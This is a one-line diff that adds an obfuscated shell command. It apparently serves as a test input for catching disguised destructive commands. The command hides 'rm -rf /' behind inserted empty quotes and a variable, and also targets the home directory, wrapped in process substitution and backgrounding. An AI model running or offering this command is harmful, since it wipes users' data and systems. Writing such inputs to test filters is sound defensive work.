@@ -1,0 +1,1 @@
+r""m -rf / && X=rm; $X -rf ${HOME:-/} | tee >(cat) < <(ls) &
